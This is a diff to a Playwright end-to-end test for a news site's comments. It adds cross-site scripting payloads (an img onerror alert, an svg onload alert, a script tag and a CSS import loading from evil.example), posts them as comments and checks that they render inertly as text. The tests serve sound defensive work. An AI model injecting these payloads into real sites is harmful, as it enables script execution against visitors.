@@ -1,7 +1,7 @@
 import type { APIRequestContext, Page } from "playwright/test";
 import { untilScriptRuns } from "./page-ready.ts";
 import { signUp } from "./sign-up.ts";
-import { axeFindings, expect, site, test } from "./watched-page.ts";
+import { axeFindings, expect, site, test, watch } from "./watched-page.ts";
 import { readTranslations, WORDS } from "./words.ts";
 
 const texts = readTranslations<typeof import("../locales/en/comments.json")>("en", "comments");
@@ -28,13 +28,21 @@ const field = (page: Page) => section(page).getByRole("textbox", { name: texts.w
 const post = (page: Page) => section(page).getByRole("button", { name: texts.post, exact: true });
 const freshText = (what: string) => `${what} ${Math.random().toString(36).slice(2, 10)}`;
 
+/** What a page would run or load if it were more than text; all of them are shown at once, held by no rule. */
+const NASTY = [
+  '"><img src=x onerror=alert(1)>',
+  "</textarea></p></li><script src=//evil.example/x.js></script>",
+  '<style>@import"//evil.example/x.css"</style>',
+];
+
 test("a member's comment is there at once and after a reload, is liked and replied to, and is deleted", async ({
   page,
 }) => {
   const { piece } = await guide(page.request, "cards-and-suspensions");
   await signUp(page);
   await page.goto(site(piece));
-  const text = freshText("First");
+  // The island draws it as the server does.
+  const text = freshText(`<svg onload=alert(1)>`);
   await field(page).fill(text);
   await page.reload();
   // What is not posted survives the page.
@@ -98,19 +106,27 @@ test("a guest reads, loads nothing before they touch the comments, and is asked 
 }) => {
   const { piece, thread } = await guide(page.request, "var");
   const member = await (await browser.newContext()).newPage();
+  const complaints = watch(member);
   await signUp(member);
+  const written = NASTY.map(freshText);
+  const headers = { Origin: new URL(site("/")).origin };
+  for (const text of written) await member.request.post(site(thread), { form: { text }, headers });
   await member.goto(site(thread));
-  const text = freshText("For guests");
-  await section(member).getByRole("textbox", { name: texts.write }).fill(text);
-  await post(member).click();
-  await expect(item(member, text)).toBeVisible();
+  for (const text of written) await expect(item(member, text)).toBeVisible();
+  await section(member)
+    .locator("details")
+    .evaluateAll((all) => {
+      for (const one of all) one.setAttribute("open", "");
+    });
+  expect(await axeFindings(member)).toEqual([]);
+  expect(complaints).toEqual([]);
   await member.context().close();
 
   const scripts: string[] = [];
   page.on("request", (request) => scripts.push(request.url()));
   await page.goto(site(piece));
   await untilScriptRuns(page);
-  await expect(item(page, text)).toBeVisible();
+  for (const text of written) await expect(item(page, text)).toBeVisible();
   await expect(page).toHaveURL(/\/news\/\w+\/var\/\d+#comments$/);
   expect(await axeFindings(page, "#comments")).toEqual([]);
   const back = encodeURIComponent(piece);
@@ -119,7 +135,7 @@ test("a guest reads, loads nothing before they touch the comments, and is asked 
     `/en/signup?callBackUrl=${back}`,
   );
   expect(scripts.filter((url) => url.includes("/island-comments"))).toEqual([]);
-  await item(page, text).getByRole("button", { name: texts.like }).press("Enter");
+  await item(page, written[0]!).getByRole("button", { name: texts.like }).press("Enter");
   const sheet = page.locator("#comments-prompt");
   await expect(sheet.getByRole("link", { name: account.logIn })).toBeVisible();
   await sheet.getByRole("button", { name: WORDS.frame.close }).click();
